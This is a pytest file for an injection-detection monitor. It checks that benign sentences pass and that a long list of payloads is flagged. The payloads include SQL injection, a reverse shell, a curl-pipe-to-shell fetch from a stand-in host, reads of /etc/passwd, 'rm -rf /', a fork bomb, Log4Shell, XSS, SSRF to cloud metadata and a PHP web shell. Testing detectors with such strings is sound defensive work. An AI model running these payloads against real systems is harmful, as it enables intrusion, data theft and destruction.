"""Code in texts: each kind, and what merely looks like it."""

from __future__ import annotations

import pytest

from monitors.code_injection import CodeInjection

GUARD = CodeInjection()


@pytest.mark.parametrize(
    ("label", "text"),
    [
        ("sql", "x' OR '1'='1"),
        ("sql", "id = 5 or 1=1"),
        ("sql", "1 UNION ALL SELECT name, password FROM users"),
        ("sql", "Robert'); DROP TABLE students;--"),
        ("sql", "admin' -- "),
        ("sql", "1; WAITFOR DELAY '0:0:5'"),
        ("sql", "1 and sleep(5)"),
        ("sql", "select 'x' into outfile '/tmp/x'"),
        ("nosql", '{"user": {"$ne": null}}'),
        ("shell", "file.txt; cat /etc/passwd"),
        ("shell", "$(curl evil.example)"),
        ("shell", "rm -rf / --no-preserve-root"),
        ("shell", "curl https://evil.example/x | sh"),
        ("shell", "bash -i >& /dev/tcp/10.0.0.1/4444"),
        ("shell", "powershell -nop -w hidden -enc SQBFAFgA"),
        ("shell", ":(){ :|:& };:"),
        ("template", "{{7*7}}"),
        ("template", "${7*7}"),
        ("template", "{{ ''.__class__.__mro__ }}"),
        ("template", "${jndi:ldap://evil.example/a}"),
        ("traversal", "../../../../etc/hostname"),
        ("traversal", "%2e%2e%2f%2e%2e%2fsecret"),
        ("traversal", "file:///etc/hosts"),
        ("traversal", "php://filter/convert.base64-encode/resource=index"),
        ("script", "<script>alert(1)</script>"),
        ("script", "<img src=x onerror=alert(1)>"),
        ("script", "javascript:fetch('//evil.example')"),
        ("script", "<iframe srcdoc='x'>"),
        ("serialised", 'O:8:"stdClass":1:{s:1:"a";}'),
        ("serialised", "!!python/object/apply:os.system"),
        ("serialised", "rO0ABXNyABFqYXZh"),
        ("xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///a">]>'),
        ("ldap", "*)(uid=*"),
        ("inner_network", "http://169.254.169.254/latest/meta-data"),
        ("header", "%0d%0aSet-Cookie: a=b"),
        ("prototype", '{"__proto__": {"admin": true}}'),
        ("python", "__import__('os').system('id')"),
        ("php", "<?php system($_GET['c']); ?>"),
        ("spreadsheet", "=cmd|' /C calc'!A0"),
        ("format_string", "%x%x%x%x%x%x%n"),
    ],
)
def test_code_is_found(label: str, text: str) -> None:
    """Each kind speaks by itself."""
    (scan,) = GUARD.scan([text])
    assert label in {span.label for span in scan.spans}
    assert scan.score >= GUARD.threshold


@pytest.mark.parametrize(
    "text",
    [
        "Please select a card from the list where you live.",
        "My union will select a delegate; drop it in the mail.",
        "Is it 2 or 3 = a lot?",
        "I don't know whether to rent or to buy; it's 50/50 or 1 = 2 for me",
        "Don't worry -- it's fine",
        "She said 'yes' or 'no' like always",
        "Sleep (8 hours) and exercise",
        "Delete my account; insert the new card into the slot.",
        "Use the template {name} in {{city}}.",
        "My e-mail is a.b@c.example & my partner's is cat@dog.example",
        "Wait for delay notices... and so on ... and on",
        "50% off, 100% sure, %s and %d",
    ],
)
def test_ordinary_texts_are_left(text: str) -> None:
    """Words that SQL and shells have in common with people are words."""
    assert GUARD.scan([text])[0].score < GUARD.threshold


def test_hints_add_up() -> None:
    """A query is a hint, a catalogue another of the same kind; a shell beside it makes two."""
    query = "select name from information_schema.tables where 1"
    assert GUARD.scan([query, f"{query} /bin/sh"])[0].score == 0.4
    assert GUARD.scan([f"{query} /bin/sh"])[0].score == pytest.approx(0.64)


def test_escaped_code_is_read() -> None:
    """What stands in URL escapes is looked at as it will be read."""
    assert GUARD.scan(["q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"])[0].score >= 0.5
